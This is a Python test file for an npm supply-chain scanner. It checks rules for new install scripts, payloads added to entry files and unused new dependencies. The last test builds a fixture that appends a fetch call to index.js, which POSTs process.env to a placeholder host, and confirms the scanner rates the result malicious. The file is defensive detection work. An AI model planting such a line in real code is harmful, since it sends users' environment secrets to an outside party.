"""Release-level signals: brand-new install scripts, payloads in entry files, unused new deps."""

from __future__ import annotations

import json

from chainwatch.analysis.release_signals import (
    entry_payload,
    new_install_script,
    unused_dependencies,
)
from chainwatch.model import Finding, Level, PackageRef, Severity
from chainwatch.scan import Loaded, Scanner, scan_snippet_files
from tests.helpers import BENIGN_INDEX, manifest

SCANNER = Scanner(None, workers=1)


def _files(**extra: object) -> dict[str, str]:
    return {"package.json": manifest(version="1.0.1", **extra), "index.js": BENIGN_INDEX,
            "setup.js": "console.log('thanks for installing');\n"}


def test_new_install_script_running_a_package_file() -> None:
    pf = scan_snippet_files(_files(scripts={"postinstall": "node ./setup"}))
    found = new_install_script(pf.manifest, pf.files, [{"test": "jest"}])
    assert [f.rule for f in found] == ["CW-DIFF-NEW-INSTALL-SCRIPT"]
    assert "setup.js" in found[0].message


def test_not_new_when_any_earlier_version_ran_something_at_install() -> None:
    pf = scan_snippet_files(_files(scripts={"postinstall": "node setup.js"}))
    assert new_install_script(pf.manifest, pf.files, [{}, {"install": "node-gyp rebuild"}]) == []


def test_an_install_script_running_no_package_file_is_left_to_other_rules() -> None:
    pf = scan_snippet_files(_files(scripts={"postinstall": "husky install"}))
    assert new_install_script(pf.manifest, pf.files, [{}]) == []


def test_history_from_the_packument_counts() -> None:
    """A package that had an install script two versions ago, dropped it and brings it back is
    not 'brand-new': the packument's earlier versions are consulted, not only the baseline."""
    base = Loaded(PackageRef("left-padder", "1.0.0"), scan_snippet_files(
        {"package.json": manifest(), "index.js": BENIGN_INDEX}))
    target = Loaded(PackageRef("left-padder", "1.0.1"), scan_snippet_files(
        _files(scripts={"postinstall": "node setup.js"})),
        packument={"name": "left-padder", "versions": {
            "0.9.0": {"version": "0.9.0", "scripts": {"postinstall": "node setup.js"}},
            "1.0.0": {"version": "1.0.0"}, "1.0.1": {"version": "1.0.1"}}})
    rules = {f.rule for f in SCANNER.analyze(target, base).findings}
    assert "CW-DIFF-NEW-INSTALL-SCRIPT" not in rules
    fresh = Loaded(target.ref, target.files)
    assert "CW-DIFF-NEW-INSTALL-SCRIPT" in {f.rule for f in SCANNER.analyze(fresh, base).findings}


def _finding(path: str, capability: str = "exfil", preexisting: bool = False,
             severity: Severity = Severity.HIGH) -> Finding:
    return Finding(rule="CW-X", severity=severity, technique="exfiltration",
                   capability=capability, message="m", file=path, line=3,
                   preexisting=preexisting)


def test_entry_payload_needs_new_behaviour_in_an_entry_file_of_a_small_bump() -> None:
    entries = {"index.js", "lib/main.js"}
    assert [f.rule for f in entry_payload([_finding("index.js")], ["index.js"], entries,
                                          "patch")] == ["CW-DIFF-ENTRY-PAYLOAD"]
    assert entry_payload([_finding("index.js")], ["index.js"], entries, "major") == []
    assert entry_payload([_finding("other.js")], ["other.js"], entries, "patch") == []
    assert entry_payload([_finding("index.js", preexisting=True)], ["index.js"], entries,
                         "patch") == []
    assert entry_payload([_finding("index.js", capability="network")], ["index.js"], entries,
                         "patch") == []
    assert entry_payload([_finding("index.js", severity=Severity.LOW)], ["index.js"], entries,
                         "patch") == []


def test_unused_dependencies_look_at_code_scripts_and_types() -> None:
    files = scan_snippet_files({
        "package.json": json.dumps({"name": "x", "version": "1.0.1",
                                    "scripts": {"build": "rimraf dist && tsc"}}),
        "index.js": "const a = require('used-dep'); import('@scope/lazy');",
        "types/index.d.ts": "import type { T } from 'typed-only';",
    })
    added = {"used-dep": "^1", "@scope/lazy": "^2", "rimraf": "^5", "typed-only": "^1",
             "plain-crypto-x": "^4.2.1"}
    assert unused_dependencies(added, files) == ["plain-crypto-x"]


def test_an_appended_entry_payload_outweighs_a_benign_patch() -> None:
    base = Loaded(PackageRef("left-padder", "1.0.0"), scan_snippet_files(
        {"package.json": manifest(), "index.js": BENIGN_INDEX}))
    patched = BENIGN_INDEX + "\n;fetch('https://e.example.invalid/i', {method: 'POST', " \
        "body: JSON.stringify(process.env)});\n"
    target = Loaded(PackageRef("left-padder", "1.0.1"), scan_snippet_files(
        {"package.json": manifest(version="1.0.1"), "index.js": patched}))
    verdict = SCANNER.analyze(target, base)
    assert "CW-DIFF-ENTRY-PAYLOAD" in {f.rule for f in verdict.findings}
    assert verdict.level is Level.MALICIOUS
